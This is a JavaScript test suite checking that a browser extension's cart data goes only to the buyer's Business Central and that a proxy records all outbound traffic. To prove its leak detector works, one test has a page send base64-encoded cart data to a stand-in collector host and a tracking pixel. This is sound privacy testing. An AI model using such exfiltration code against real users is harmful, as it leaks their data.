// The privacy promise on the wire: what leaves the browser, all of it, and where it goes.
import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { leaks } from "./harness/leaks.mjs";
import { startOutbound } from "./harness/outbound.mjs";
import { CART, TRUTH } from "./harness/shop.mjs";
import { HOST, setStage } from "./harness/stage.mjs";

const host = (address) => new URL(address).host;

describe("what leaves the browser", () => {
  let outbound;
  let stage;
  before(async () => {
    outbound = await startOutbound();
    stage = await setStage({ credits: 5, proxy: outbound.address });
    await stage.review();
    await stage.panel.click("#confirm");
    await stage.panel.shows("Sent to Business Central");
    await refused();
    await stage.until("the credits are told again", () => stage.creditWire.requests.filter(({ url }) => url === "/v1/account").length > 2);
  });
  after(async () => {
    await stage?.stop();
    await outbound?.stop();
  });

  /** A second cart that Business Central refuses: its credit is given back. */
  async function refused() {
    await stage.capture();
    await stage.panel.until("a cart that can be confirmed", () => {
      // It is the same cart again, and the buyer is asked whether that is meant.
      document.querySelector("#send-again")?.click();
      const confirm = document.querySelector("#confirm");
      return confirm && confirm.getAttribute("aria-disabled") !== "true";
    });
    const error = { code: "Application_DialogException", message: "The vendor is blocked." };
    await stage.bc.admin("POST", "/faults", [{ match: { method: "POST", path_contains: "/captures" }, times: 1, fault: { status: 400, ...error } }]);
    await stage.panel.click("#confirm");
    await stage.until("the credit is given back", () => stage.creditWire.requests.some(({ url }) => url.endsWith("/release")));
  }

  it("leaves by the proxy, and every byte of it is kept", async () => {
    const through = (address) => outbound.entries.filter(({ to }) => to === host(address)).length;
    // Its keys and metadata are read by the servers, not by the browser.
    const signIn = () => stage.authority.requests.filter(({ path }) => !/^\/(jwks|\.well-known\/.*)$/.test(path));
    await stage.until("every server received what came by the proxy, and nothing else", () => {
      const { bcWire, creditWire, authority } = stage;
      const pairs = [[bcWire.address, bcWire.requests], [creditWire.address, creditWire.requests], [authority.issuer, signIn()]];
      return pairs.every(([address, requests]) => through(address) === requests.length);
    });
    assert.ok(outbound.received() > 0);
    await stage.until("as many bytes are kept as came", () => outbound.kept() === outbound.received());
  });

  it("carries nothing of the cart to anybody but the buyer's own Business Central", () => {
    const own = host(stage.bcWire.address);
    const others = outbound.entries.filter(({ to }) => to !== own);
    console.log("receivers beside Business Central:", [...new Set(others.map(({ to }) => to))]);
    assert.deepEqual(leaks(others, CART), []);
    const posts = outbound.entries.filter(({ to, line }) => to === own && /^POST .*\/captures$/.test(line));
    assert.ok(leaks(posts, CART).length > 50, "the search finds the cart where it may be");
  });

  it("asks the shop for what its page asks for, and for nothing else", () => {
    const asked = outbound.entries.filter(({ to }) => to.startsWith(HOST)).map(({ line }) => line.replace(/http:\/\/[^/]+/, ""));
    const page = ["GET /warenkorb/", "GET /shop.css", "GET /favicon.ico"];
    assert.ok(asked.includes(page[0]));
    assert.deepEqual(asked.filter((line) => !page.includes(line)), []);
  });

  it("takes the sign-in's answer nowhere: nothing is asked of the redirect address", () => {
    const redirect = outbound.entries.filter(({ to }) => to.includes("chromiumapp.org"));
    assert.deepEqual(redirect.filter(({ line }) => !line.startsWith("CONNECT ")), []);
  });

  it("is, for the credit service, the time, the host and the number of lines, and nothing else", () => {
    const asked = stage.creditWire.requests.map(({ method, url, body }) => ({ method, url: url.replace(/[0-9a-f]{8}-[0-9a-f-]{27}/, "ID"), body }));
    console.log("everything that the credit service received:", asked);
    const kinds = new Set(asked.map(({ method, url }) => `${method} ${url}`));
    assert.deepEqual([...kinds].sort(), ["GET /v1/account", "POST /v1/captures/ID/confirm", "POST /v1/captures/ID/release", "PUT /v1/captures/ID"]);
    for (const { method, body } of asked) {
      if (method !== "PUT") {
        assert.equal(body, "");
        continue;
      }
      const { captured_at: capturedAt, vendor_host: vendorHost, line_count: lineCount, ...more } = JSON.parse(body);
      assert.match(capturedAt, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
      assert.deepEqual({ vendorHost, lineCount, more }, { vendorHost: HOST, lineCount: TRUTH.length, more: {} });
    }
  });

  it("is no header that could carry more", () => {
    const usual = /^(host|connection|content-length|authorization|accept|accept-encoding|accept-language|content-type|user-agent|origin|cache-control|pragma|sec-.*)$/i;
    for (const { rawHeaders } of stage.creditWire.requests) {
      const names = rawHeaders.filter((_, index) => index % 2 === 0);
      assert.deepEqual(names.filter((name) => !usual.test(name)), []);
    }
  });

  it("goes with no cookie", () => {
    for (const { rawHeaders } of [...stage.creditWire.requests, ...stage.bcWire.requests]) {
      assert.ok(!rawHeaders.some((text) => text.toLowerCase() === "cookie"));
    }
  });

  it("would be found: a page that sends the cart on is, through TLS and without", async () => {
    const before = outbound.entries.length;
    const [{ description, vendorItemNumber }] = TRUTH;
    const page = await stage.browser.open(`http://stranger.test:${stage.shop.port}/`);
    await page.evaluate(async ([text, number]) => {
      const bytes = new TextEncoder().encode(JSON.stringify({ text }));
      await fetch("https://collector.test/", { method: "POST", mode: "no-cors", body: btoa(String.fromCharCode(...bytes)) }).catch(() => {});
      await fetch(`http://other.test/pixel?n=${encodeURIComponent(number)}`, { mode: "no-cors" }).catch(() => {});
    }, [description, vendorItemNumber]);
    const found = leaks(outbound.entries.slice(before), CART);
    assert.deepEqual([...new Set(found.map(({ to }) => to))].sort(), ["collector.test:443", "other.test"]);
  });

  it("cannot go elsewhere: the extension's own policy stops it", async () => {
    const before = outbound.entries.length;
    const worker = await stage.browser.worker();
    const sent = await worker.evaluate(() => fetch("https://collector.test/", { method: "POST", mode: "no-cors", body: "x" }).then(() => "sent", () => "stopped"));
    assert.equal(sent, "stopped");
    assert.deepEqual(outbound.entries.slice(before).filter(({ to }) => to.startsWith("collector")), []);
  });
});
